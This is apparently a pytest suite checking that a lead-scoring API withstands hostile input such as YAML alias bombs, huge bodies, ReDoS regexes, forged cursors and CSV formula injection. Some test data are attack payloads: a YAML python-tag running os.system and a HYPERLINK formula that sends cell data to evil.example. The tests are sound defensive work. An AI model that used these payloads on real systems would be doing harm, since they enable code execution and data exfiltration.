"""Hostile input cannot stall, bloat or crash the API (issue 12): one test per finding.

Memory is measured in this process (tracemalloc sees the app's threads too), never time.
"""

from __future__ import annotations

import asyncio
import base64
import json
import threading
import tracemalloc
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from app.api.key_attempts import CAPACITY, KeyAttempts
from app.api.request_guard import MAX_BODY_BYTES
from app.api.rules import RULES_YAML_EXAMPLE
from tests.app.api import builders as b
from tests.app.api.conftest import ADMIN, ADMIN_KEY, READ, READ_KEY
from tests.rules.test_limits import alias_bomb

YAML = {"Content-Type": "application/yaml"}
FIT_AND_INTEREST = {"NumberOfEmployees": 500, "LeadSource": "Webinar"}


def peak_bytes(action: Callable[[], Any]) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def cursor_of(*values: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(list(values)).encode()).decode().rstrip("=")


class TestRulesBodies:
    def test_the_alias_bomb_is_refused_at_once_with_memory_bounded(
        self, client: TestClient
    ) -> None:
        response, peak = peak_bytes(
            lambda: client.post("/rules/validate", content=alias_bomb(), headers={**READ, **YAML})
        )
        assert response.status_code == 200
        assert response.json()["valid"] is False
        assert response.json()["errors"] == [
            {"line": 1, "place": "(file)", "message": "aliases are not allowed in rules files"}
        ]
        assert peak < 5_000_000
        simulated = client.post("/rules/simulate", content=alias_bomb(), headers={**ADMIN, **YAML})
        assert simulated.status_code == 422
        assert "aliases are not allowed" in simulated.text

    @pytest.mark.parametrize("path", ["/rules/validate", "/rules/simulate"])
    def test_a_968_kb_rules_file_is_413_with_memory_bounded(
        self, client: TestClient, path: str
    ) -> None:
        rule = '  - {field: Title, op: eq, value: "chief executive", points: 1}\n'
        text = "version: 1\nfit:\n" + rule * (968_000 // len(rule))
        response, peak = peak_bytes(
            lambda: client.post(path, content=text, headers={**ADMIN, **YAML})
        )
        assert response.status_code == 413
        assert len(response.content) < 200
        # The test holds the text and its encoded copy; the app adds no copy of its own.
        assert peak < 3 * len(text) + 2_000_000

    def test_more_than_2000_rules_in_a_section_is_a_placed_error(self, client: TestClient) -> None:
        rule = "  - {field: Title, op: eq, value: x, points: 1}\n"
        text = "version: 1\nfit:\n" + rule * 2_001
        body = client.post("/rules/validate", content=text, headers={**READ, **YAML}).json()
        assert body["errors"][0]["line"] == 2_003
        assert "more than 2000 items" in body["errors"][0]["message"]

    def test_a_python_tag_is_a_placed_error_not_a_500(self, client: TestClient) -> None:
        text = 'version: 1\nfit: !!python/object/apply:os.system ["touch /tmp/i12/pwned"]\n'
        body = client.post("/rules/validate", content=text, headers={**READ, **YAML}).json()
        assert body["errors"][0]["line"] == 2
        assert "is not allowed in rules files" in body["errors"][0]["message"]
        assert not Path("/tmp/i12/pwned").exists()

    def test_invalid_utf8_in_a_yaml_body_is_422(self, client: TestClient) -> None:
        response = client.post(
            "/rules/validate", content=b"version: 1\nfit: \xff\xfe\n", headers={**READ, **YAML}
        )
        assert response.status_code == 422
        assert response.json()["detail"][0]["loc"] == ["body"]

    @pytest.mark.parametrize(
        "active",
        ["version: 1\nsla:\n  <<: {first_touch_hours: 24}\n", "fit: " + "[" * 1000 + "]" * 1000],
        ids=["merge-key", "nested-1000"],
    )
    def test_an_active_rules_file_of_legal_but_refused_yaml_breaks_no_endpoint(
        self, client: TestClient, rules_path: Path, active: str
    ) -> None:
        rules_path.write_text(active, encoding="utf-8")
        assert client.get("/readyz").json()["reasons"] == ["rules_invalid"]
        assert client.get("/rules", headers=READ).json()["valid"] is False
        assert client.get("/handoff/status", headers=READ).status_code == 200
        assert client.get("/metrics", headers=READ).status_code == 200


class TestRegex:
    def test_a_catastrophic_pattern_over_a_hostile_title_simulates_while_healthz_answers(
        self, client: TestClient, session: Session
    ) -> None:
        b.lead(session, Title="a" * 28 + "!", **FIT_AND_INTEREST)
        b.lead(session, Title="a" * 28, **FIT_AND_INTEREST)
        session.commit()
        draft = RULES_YAML_EXAMPLE.replace(
            "fit:\n", "fit:\n  - {field: Title, op: matches, value: '(a+)+$', points: 100}\n"
        ).replace("fit: 30", "fit: 130")
        answers: dict[str, Any] = {}

        def simulate() -> None:
            answers["simulate"] = client.post(
                "/rules/simulate", content=draft, headers={**ADMIN, **YAML}
            )

        worker = threading.Thread(target=simulate)
        worker.start()
        answers["healthz"] = client.get("/healthz")
        worker.join()
        assert answers["healthz"].status_code == 200
        assert answers["simulate"].status_code == 200
        assert answers["simulate"].json()["mql"] == 1


class TestBodiesBeforeTheyAreRead:
    """The middleware, driven at the ASGI level so the test sees exactly what was read."""

    @staticmethod
    def call(
        app: FastAPI, headers: dict[str, str], chunks: int, chunk: bytes = b"x" * 1_000_000
    ) -> tuple[int, int]:
        """(status, chunks the app read) for a POST /rules/validate of `chunks` chunks."""
        read = 0

        async def receive() -> dict[str, Any]:
            nonlocal read
            read += 1
            return {"type": "http.request", "body": chunk, "more_body": read < chunks}

        sent: list[dict[str, Any]] = []

        async def send(message: dict[str, Any]) -> None:
            sent.append(message)

        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "POST",
            "scheme": "http",
            "path": "/rules/validate",
            "raw_path": b"/rules/validate",
            "query_string": b"",
            "root_path": "",
            "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
            "client": ("203.0.113.9", 5000),
            "server": ("testserver", 80),
            "state": {},
        }
        asyncio.run(app(scope, receive, send))
        return sent[0]["status"], read

    def test_50_mb_without_a_key_is_refused_before_a_byte_is_read(
        self, app: FastAPI, client: TestClient
    ) -> None:
        status, read = self.call(app, {"content-length": str(50_000_000), **YAML}, chunks=50)
        assert (status, read) == (401, 0)

    def test_50_mb_with_a_key_is_413_on_its_declared_length(
        self, app: FastAPI, client: TestClient
    ) -> None:
        headers = {"content-length": str(50_000_000), "x-api-key": READ_KEY, **YAML}
        assert self.call(app, headers, chunks=50) == (413, 0)

    def test_a_chunked_body_is_cut_off_once_it_passes_the_limit(
        self, app: FastAPI, client: TestClient
    ) -> None:
        headers = {"transfer-encoding": "chunked", "x-api-key": READ_KEY, **YAML}
        status, read = self.call(app, headers, chunks=50, chunk=b"x" * 64_000)
        assert status == 413
        assert read == MAX_BODY_BYTES // 64_000 + 1


class TestValidationAnswers:
    def test_a_422_never_echoes_the_body(self, client: TestClient) -> None:
        payload = json.dumps({"full": "x" * 200_000})
        response = client.post(
            "/sync/runs", content=payload, headers={**ADMIN, "Content-Type": "application/json"}
        )
        assert response.status_code == 422
        assert len(response.content) < 1_000
        assert "xxxx" not in response.text

    @pytest.mark.parametrize("path", ["/sync/runs", "/audit"])
    @pytest.mark.parametrize("value", [2**80, True, -1, "7", 1.5])
    def test_a_forged_cursor_is_422(self, client: TestClient, path: str, value: Any) -> None:
        params = {"cursor": cursor_of(value), "lead_id": "00Q000000000001AAA"}
        response = client.get(path, params=params, headers=READ)
        assert response.status_code == 422
        assert response.json()["detail"][0]["loc"] == ["query", "cursor"]

    def test_a_forged_rank_in_a_leads_cursor_is_422(self, client: TestClient) -> None:
        moment = "2026-11-01T00:00:00+00:00"
        cursor = cursor_of(moment, 2**80, moment, "00Q000000000001AAA")
        response = client.get("/handoff/leads", params={"cursor": cursor}, headers=READ)
        assert response.status_code == 422

    @pytest.mark.parametrize(
        ("path", "params"),
        [
            ("/reports/funnel", {"from": "0001-01-01", "to": "9999-12-31"}),
            ("/reports/win-loss", {"to": "9999-12-31"}),
            ("/reports/funnel", {"to": "0"}),
            ("/reports/funnel", {"from": "1700"}),
            ("/handoff/status", {"since": "0.5"}),
            ("/handoff/status", {"since": "0001-01-01T00:00:00Z"}),
        ],
    )
    def test_dates_out_of_range_or_written_as_numbers_are_422(
        self, client: TestClient, path: str, params: dict[str, str]
    ) -> None:
        response = client.get(path, params=params, headers=READ)
        assert response.status_code == 422, response.text

    @pytest.mark.parametrize("body", [{"dry_run": 0}, {"full": 1}, {"dry_run": "true"}])
    def test_booleans_are_booleans(self, client: TestClient, body: dict[str, Any]) -> None:
        response = client.post("/sync/runs", json=body, headers=ADMIN)
        assert response.status_code == 422


class TestCsv:
    def test_a_formula_in_the_org_arrives_as_text(
        self, client: TestClient, session: Session
    ) -> None:
        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        b.opportunity(session, won=True, close_date=date(2026, 8, 1), LeadSource=hostile)
        b.opportunity(session, won=False, close_date=date(2026, 8, 2), LeadSource="-1+1")
        session.commit()
        text = client.get(
            "/reports/win-loss", params={"group_by": "lead_source", "format": "csv"}, headers=READ
        ).text
        assert "'=HYPERLINK" in text
        assert "'-1+1" in text
        assert not any(cell.startswith(("=", "-", "+", "@")) for cell in _text_cells(text))


def _text_cells(text: str) -> list[str]:
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class TestKeyAttempts:
    def test_wrong_keys_are_throttled_per_client_and_counted(self, app: FastAPI) -> None:
        now = [0.0]
        with TestClient(app) as client:
            app.state.key_attempts = KeyAttempts(clock=lambda: now[0])
            app.state.metrics.register(app.state.key_attempts)
            bad = {"X-API-Key": "not-a-key-at-all-xxxxx"}
            statuses = [client.get("/sync/runs", headers=bad).status_code for _ in range(300)]
            assert statuses == [401] * CAPACITY + [429] * (300 - CAPACITY)
            refused = client.get("/sync/runs", headers=READ)
            assert refused.status_code == 429  # a right key tells a guesser nothing while throttled
            assert refused.headers["Retry-After"] == "1"
            now[0] += 1.0
            assert client.get("/sync/runs", headers=READ).status_code == 200
            other = TestClient(app, client=("198.51.100.7", 4000))
            assert other.get("/sync/runs", headers=READ).status_code == 200
            metrics = client.get("/metrics", headers=READ).text
        found = {
            family.name: family.samples[0].value
            for family in text_string_to_metric_families(metrics)
            if family.name.startswith("handoff_api_key")
        }
        assert found == {
            "handoff_api_key_failures": CAPACITY,
            "handoff_api_key_throttled": 300 - CAPACITY + 1,
        }

    def test_the_same_key_twice_is_refused_at_start_naming_the_entry(self) -> None:
        from app.settings import SettingsError, load_settings

        with pytest.raises(SettingsError) as caught:
            load_settings(api_keys=f"{READ_KEY}:read,{ADMIN_KEY}:admin,{READ_KEY}:admin")
        assert "entry 3 repeats the key of entry 1" in str(caught.value)
        assert READ_KEY not in str(caught.value)


def test_validate_warns_of_nested_quantifiers(client: TestClient) -> None:
    draft = RULES_YAML_EXAMPLE.replace(
        "fit:\n", "fit:\n  - {field: Title, op: matches, value: '(a+)+$', points: 1}\n"
    )
    body = client.post("/rules/validate", content=draft, headers={**READ, **YAML}).json()
    assert body["valid"] is True
    (warning,) = body["warnings"]
    assert (warning["line"], warning["place"]) == (8, "fit[0].value")
    assert "nests quantifiers" in warning["message"]
